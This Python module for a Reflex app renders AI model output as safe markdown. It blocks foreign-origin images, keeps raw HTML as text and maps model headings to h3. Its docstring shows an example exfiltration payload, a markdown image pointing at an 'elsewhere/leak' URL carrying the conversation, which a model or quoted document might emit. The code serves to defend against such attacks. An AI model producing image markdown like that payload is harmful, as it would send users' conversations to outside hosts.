"""Model text as markdown with KaTeX math; raw HTML is shown as text, never as DOM, and an
image loads only from the app's own origin or `data:` (anything else is a link naming its
host: a model — or a document it quotes — must not make the learner's browser fetch
`![t](https://elsewhere/leak?d=<the conversation>)`). The page's Content-Security-Policy
(`ui.csp`) enforces the same rule a second time. Its headings are the message's own
sections (h3), never the page's."""

from __future__ import annotations

from collections.abc import Sequence

import reflex as rx
from reflex_base.utils.imports import ImportVar
from reflex_base.vars.base import Var, VarData
from reflex_components_core.core.markdown_component_map import MarkdownComponentMap

FOREIGN_IMAGE_CLASS = "lh-foreign-image"

GUARDED_IMAGE_JS = """
const here = typeof window === "undefined" ? null : window.location;
const words = alt || title || "image";
let url = null;
try { url = src ? new URL(src, here ? here.href : "http://invalid.invalid/") : null; }
catch (error) { url = null; }
if (url !== null && here !== null && (url.protocol === "data:" || url.origin === here.origin)) {
  return jsx("img", {src: src, alt: alt ?? "", title: title, style: {maxWidth: "100%"}});
}
if (url === null || !/^https?:$/.test(url.protocol)) {
  return jsx("span", {className: "lh-image-alt"}, words);
}
return jsx("a", {href: url.href, className: "FOREIGN", rel: "noopener noreferrer nofollow",
  target: "_blank"}, words + " (image from " + url.host + ")");
""".replace("FOREIGN", FOREIGN_IMAGE_CLASS)
"""The markdown `img` renderer: same-origin and `data:` images load; an `http(s)` image
anywhere else becomes a link saying which host it is on; anything else is its words."""


class GuardedImage(MarkdownComponentMap, rx.Fragment):
    """The `img` entry of the markdown component map (`GUARDED_IMAGE_JS` is its body)."""

    @classmethod
    def create_map_fn_var(
        cls,
        fn_body: Var | None = None,
        fn_args: Sequence[str] | None = None,
        explicit_return: bool | None = None,
        var_data: VarData | None = None,
    ) -> Var:
        jsx = VarData(imports={"@emotion/react": [ImportVar(tag="jsx")]})
        return super().create_map_fn_var(
            fn_body=Var(_js_expr=GUARDED_IMAGE_JS),
            fn_args=["node", "src", "alt", "title"],
            explicit_return=True,
            var_data=jsx,
        )


def _guarded_image(*children: object, **props: object) -> rx.Component:
    return GuardedImage.create()


def _model_heading(value: object, size: str) -> rx.Component:
    """A heading in model text is a section of its message or note: one level below the
    page's (the conversation is an h2), whatever `#`s it was written with, so headings
    never skip a level (axe: heading-order). Its size still says how the model ranked it."""
    return rx.heading(value, as_="h3", size=size, margin_y="0.5em")


def _h1(value: object) -> rx.Component:
    return _model_heading(value, "6")


def _h2(value: object) -> rx.Component:
    return _model_heading(value, "5")


def _h3(value: object) -> rx.Component:
    return _model_heading(value, "4")


def _h4(value: object) -> rx.Component:
    return _model_heading(value, "3")


def _h5(value: object) -> rx.Component:
    return _model_heading(value, "2")


def _h6(value: object) -> rx.Component:
    return _model_heading(value, "1")


COMPONENT_MAP = {
    "img": _guarded_image,
    "h1": _h1,
    "h2": _h2,
    "h3": _h3,
    "h4": _h4,
    "h5": _h5,
    "h6": _h6,
}


def safe_markdown(text: rx.Var[str] | str) -> rx.Component:
    """`use_raw=False`: `<script>` or `<img onerror>` in model output stays inert text."""
    return rx.markdown(text, use_raw=False, class_name="lh-markdown", component_map=COMPONENT_MAP)
